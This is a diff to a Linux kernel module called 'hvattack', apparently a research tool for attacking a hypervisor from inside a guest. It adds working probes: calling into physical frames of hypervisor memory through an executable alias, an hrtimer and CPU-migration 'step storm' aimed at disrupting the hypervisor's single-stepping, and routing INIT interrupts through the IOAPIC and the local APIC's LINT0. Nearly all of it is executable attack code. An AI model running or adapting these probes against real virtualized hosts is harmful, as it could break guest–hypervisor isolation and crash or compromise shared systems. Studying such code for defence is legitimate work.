@@ -61,6 +61,20 @@
  *                so that a reader walks every type and only then finds the
  *                last one cut; rmmod puts the length back
  *
+ *   hv_fetch=PHYS  call into the physical frame PHYS (hypervisor memory)
+ *                through an executable alias of it; a #UD there is caught
+ *                (a die notifier returns to the caller) and reported
+ *   step_storm=N with func: N reads of the hooked function while an
+ *                hrtimer fires every 10 us and the task moves itself
+ *                between the online CPUs every 64 reads: interrupts land
+ *                in the middle of the hypervisor's single steps, and the
+ *                stepped contexts resume on the other CPU
+ *   ioapic_init=1  route the PIT through the IOAPIC in delivery mode INIT
+ *                to APIC 1 for about 50 ms, and report what the entry
+ *                reads back
+ *   lint_init=1  write LVT LINT0 of this CPU's local APIC in delivery mode
+ *                INIT (masked), report what it reads back, and put it back
+ *
  * Loading fails with -EAGAIN once the attempts are done, so the module can
  * be loaded again with other parameters; except with forge_pgd and btf,
  * where it stays loaded (busybox insmod runs a failed init a second time,
@@ -91,6 +105,12 @@
 #include <asm/tsc.h>
 #include <linux/vmalloc.h>
 #include <asm/msr.h>
+#include <asm/apic.h>
+#include <linux/kdebug.h>
+#include <asm/trapnr.h>
+#include <linux/hrtimer.h>
+#include <linux/sched.h>
+#include <linux/cpumask.h>
 
 static unsigned long func;
 module_param(func, ulong, 0);
@@ -403,6 +423,166 @@ out_low:
 	memcpy(low + 0x20, saved, 16);
 	memunmap(low);
 	free_page((unsigned long)code);
+}
+
+static unsigned long hv_fetch;
+module_param(hv_fetch, ulong, 0);
+static int step_storm;
+module_param(step_storm, int, 0);
+static int ioapic_init;
+module_param(ioapic_init, int, 0);
+static int lint_init;
+module_param(lint_init, int, 0);
+
+/* The executable alias hv_fetch calls into, and whether its #UD came. */
+static unsigned long fetch_at;
+static int fetch_ud;
+
+static int hva_die(struct notifier_block *nb, unsigned long val, void *data)
+{
+	struct die_args *args = data;
+	struct pt_regs *regs = args->regs;
+
+	if (!fetch_at || args->trapnr != X86_TRAP_UD ||
+	    (regs->ip & PAGE_MASK) != fetch_at)
+		return NOTIFY_DONE;
+	/* Return to the caller, as a `ret` at the target would. */
+	regs->ip = *(unsigned long *)regs->sp;
+	regs->sp += 8;
+	fetch_ud++;
+	return NOTIFY_STOP;
+}
+
+static struct notifier_block hva_die_nb = { .notifier_call = hva_die };
+
+static void try_hv_fetch(void)
+{
+	struct page *page = pfn_to_page(hv_fetch >> PAGE_SHIFT);
+	void *alias;
+
+	if (!pfn_valid(hv_fetch >> PAGE_SHIFT)) {
+		pr_info("hvattack: hv fetch: no struct page for %lx\n", hv_fetch);
+		return;
+	}
+	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL_EXEC);
+	if (!alias) {
+		pr_info("hvattack: hv fetch: vmap failed\n");
+		return;
+	}
+	register_die_notifier(&hva_die_nb);
+	fetch_ud = 0;
+	WRITE_ONCE(fetch_at, (unsigned long)alias);
+	asm volatile("call *%0" : : "r"(alias + (hv_fetch & ~PAGE_MASK))
+		     : "memory", "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11");
+	WRITE_ONCE(fetch_at, 0);
+	unregister_die_notifier(&hva_die_nb);
+	vunmap(alias);
+	pr_info("hvattack: hv fetch %lx: returned, %d #UD\n", hv_fetch, fetch_ud);
+}
+
+static atomic_t storm_fires = ATOMIC_INIT(0);
+
+static enum hrtimer_restart storm_tick(struct hrtimer *t)
+{
+	atomic_inc(&storm_fires);
+	hrtimer_forward_now(t, ns_to_ktime(10000));
+	return HRTIMER_RESTART;
+}
+
+static void try_step_storm(void)
+{
+	static const u8 nop5[5] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
+	static const u8 endbr64[4] = { 0xf3, 0x0f, 0x1e, 0xfa };
+	struct hrtimer timer;
+	int i, bad = 0, other = 0, moves = 0, cpu;
+	u8 b[9];
+
+	hrtimer_init(&timer, CLOCK_MONOTONIC, HRTIMER_MODE_REL);
+	timer.function = storm_tick;
+	atomic_set(&storm_fires, 0);
+	hrtimer_start(&timer, ns_to_ktime(10000), HRTIMER_MODE_REL);
+	for (i = 0; i < step_storm; i++) {
+		if (copy_from_kernel_nofault(b, (void *)func, sizeof(b)))
+			bad++;
+		else if (memcmp(b, nop5, sizeof(nop5)) &&
+			 (memcmp(b, endbr64, sizeof(endbr64)) ||
+			  memcmp(b + sizeof(endbr64), nop5, sizeof(nop5))))
+			other++;
+		if (i % 64 == 63) {
+			cpu = cpumask_next(raw_smp_processor_id(), cpu_online_mask);
+			if (cpu >= nr_cpu_ids)
+				cpu = cpumask_first(cpu_online_mask);
+			if (!set_cpus_allowed_ptr(current, cpumask_of(cpu)))
+				moves++;
+		}
+	}
+	hrtimer_cancel(&timer);
+	set_cpus_allowed_ptr(current, cpu_online_mask);
+	pr_info("hvattack: step storm: %d reads of %lx (%d faulted, %d not a nop5), %d moves, %d timer fires\n",
+		step_storm, func, bad, other, moves, atomic_read(&storm_fires));
+}
+
+static void try_ioapic_init(void)
+{
+	void __iomem *io, *hpet;
+	u32 lo, hi, lo_after, hpet_cfg = 0;
+
+	io = ioremap(IOAPIC_BASE, PAGE_SIZE);
+	if (!io) {
+		pr_info("hvattack: cannot map the IOAPIC\n");
+		return;
+	}
+	lo = ioapic_read(io, 0x10 + 2 * PIT_PIN);
+	hi = ioapic_read(io, 0x11 + 2 * PIT_PIN);
+	/* Delivery mode INIT (101b), edge, physical destination APIC 1. */
+	ioapic_write(io, 0x11 + 2 * PIT_PIN, 1U << 24);
+	ioapic_write(io, 0x10 + 2 * PIT_PIN, 5 << 8);
+	lo_after = ioapic_read(io, 0x10 + 2 * PIT_PIN);
+	hpet = ioremap(HPET_BASE, PAGE_SIZE);
+	if (hpet) {
+		hpet_cfg = readl(hpet + 0x10);
+		writel(hpet_cfg & ~HPET_CFG_LEGACY_ROUTE, hpet + 0x10);
+	}
+	outb(0x34, 0x43);
+	outb(200 & 0xff, 0x40);
+	outb(200 >> 8, 0x40);
+	mdelay(50);
+	outb(0x30, 0x43);
+	outb(0, 0x40);
+	outb(0, 0x40);
+	ioapic_write(io, 0x10 + 2 * PIT_PIN, lo | (1 << 16));
+	ioapic_write(io, 0x11 + 2 * PIT_PIN, hi);
+	ioapic_write(io, 0x10 + 2 * PIT_PIN, lo);
+	iounmap(io);
+	if (hpet) {
+		writel(hpet_cfg, hpet + 0x10);
+		iounmap(hpet);
+	}
+	pr_info("hvattack: ioapic init: wrote %x, reads %x\n", 5 << 8, lo_after);
+}
+
+static void try_lint_init(void)
+{
+	void __iomem *lapic;
+	u32 old, after;
+
+	if (x2apic_enabled()) {
+		pr_info("hvattack: lint0 init: the APIC is in x2APIC mode\n");
+		return;
+	}
+	lapic = ioremap(APIC_DEFAULT_PHYS_BASE, PAGE_SIZE);
+	if (!lapic) {
+		pr_info("hvattack: cannot map the local APIC\n");
+		return;
+	}
+	old = readl(lapic + APIC_LVT0);
+	/* Delivery mode INIT (101b), masked. */
+	writel(APIC_LVT_MASKED | (5 << 8), lapic + APIC_LVT0);
+	after = readl(lapic + APIC_LVT0);
+	writel(old, lapic + APIC_LVT0);
+	iounmap(lapic);
+	pr_info("hvattack: lint0 init: wrote %x, reads %x\n",
+		APIC_LVT_MASKED | (5 << 8), after);
 }
 
 static void forge_log(void)
@@ -804,6 +984,14 @@ static int __init hvattack_init(void)
 		show_stacks();
 	if (forge_entry && forge_site && forge_rax)
 		try_forge_entry();
+	if (hv_fetch)
+		try_hv_fetch();
+	if (func && step_storm > 0)
+		try_step_storm();
+	if (ioapic_init)
+		try_ioapic_init();
+	if (lint_init)
+		try_lint_init();
 	pr_info("hvattack: done\n");
 	return -EAGAIN;
 }
